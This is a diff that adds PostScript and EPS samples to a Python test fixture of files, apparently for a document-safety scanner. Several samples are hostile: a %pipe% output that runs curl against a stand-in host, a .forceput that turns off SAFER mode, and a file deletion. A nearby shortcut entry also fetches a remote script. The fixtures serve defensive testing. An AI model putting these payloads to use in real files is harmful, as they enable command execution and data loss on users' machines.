@@ -237,6 +237,14 @@ FILES: dict[str, Callable[[], bytes]] = {
     ),
     "page-inside.zip": lambda: zip_up(plan_html=b"<html><p>Bring the long ladder.</p></html>"),
     "letter.eml": lambda: EML + b"\r\nsee https://woodwork.example/\r\n",
+    "piping.ps": lambda: b"%!PS-Adobe-3.0\n<< /OutputFile (%pipe%curl collect.example) >> setpagedevice showpage\n",
+    "unsafe.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\nsystemdict /SAFER false .forceput\n(plan.txt) (w) file\n",
+    "deleting.ps": lambda: b"%!PS-Adobe-3.0\n(plan.txt) deletefile\nshowpage\n",
+    "page.ps": lambda: (
+        b"%!PS-Adobe-3.0\n/Times-Roman findfont 12 scalefont setfont 72 700 moveto (plan) show showpage\n"
+    ),
+    "drawing.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n0 0 moveto 90 90 lineto stroke\n",
+    "reading.ps": lambda: b"%!PS-Adobe-3.0\n% needs the file pipe.inc and no other\n(pipe.inc) run showpage\n",
     "command.lnk": lambda: build_shortcut(environment=COMMAND, arguments="/c curl https://collect.example/x.js"),
     "padded.lnk": lambda: build_shortcut(environment=r"C:\plan.docx", arguments=" " * 200 + "x"),
     "ladder.lnk": lambda: build_shortcut(environment=r"C:\Users\Ann\plan.docx", folder=r"C:\Users\Ann"),
